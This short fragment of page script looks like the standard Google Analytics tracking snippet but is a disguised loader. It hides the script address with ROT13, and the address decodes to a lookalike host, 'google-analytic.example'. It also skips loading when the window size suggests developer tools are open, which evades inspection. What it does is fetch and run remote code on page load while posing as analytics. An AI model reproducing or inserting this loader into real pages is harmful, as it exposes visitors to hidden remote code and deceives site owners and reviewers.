<!--
(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){
(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),
m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;
if(i.outerWidth-i.innerWidth>200||i.outerHeight-i.innerHeight>250)return;
m.parentNode.insertBefore(a,m)
})(window,document,'script',(function(k){
return k.replace(/[a-zA-Z]/g,function(c){var z=c<='Z'?90:122,n=c.charCodeAt(0)+13;
return String.fromCharCode(z>=n?n:n-26)})
})('//jjj.tbbtyr-nanylgvp.rknzcyr/nanylgvpf.wf'),'ga');
ga('create', 'UA-00000000-1', 'auto');
ga('send', 'pageview');
//-->
